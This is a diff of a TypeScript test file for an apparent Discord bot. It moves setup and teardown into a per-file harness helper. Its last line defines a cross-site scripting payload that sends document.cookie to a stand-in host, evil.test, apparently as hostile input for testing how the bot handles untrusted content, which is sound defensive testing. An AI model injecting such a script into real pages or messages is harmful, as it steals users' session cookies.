@@ -6,24 +6,15 @@
  * the local Discord, arlocal, the real store.
  */
 import { createHash } from "node:crypto";
-import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 import { announce } from "../../../bot/core/usecases/announce.js";
 import { deliverOutbox } from "../../../bot/core/usecases/deliver-outbox.js";
 import type { InteractionRecord } from "../../discord-server/server.js";
 import { campaign } from "../support/campaigns.js";
-import { linkWallet, startHarness, type Harness } from "./harness.js";
+import { linkWallet, harnessPerFile, type Harness } from "./harness.js";
 
 let h: Harness;
-beforeAll(async () => {
-  h = await startHarness({ writes: true });
-}, 90_000);
-afterAll(async () => {
-  await h.stop();
-});
-afterEach(() => {
-  expect(h.server.failed).toEqual([]);
-  expect(h.errors).toEqual([]);
-});
+harnessPerFile({ writes: true }, (started) => (h = started));
 
 const HOSTILE = '<script>fetch("https://evil.test/?c="+document.cookie)</script><h1>Totally real results</h1>';
 
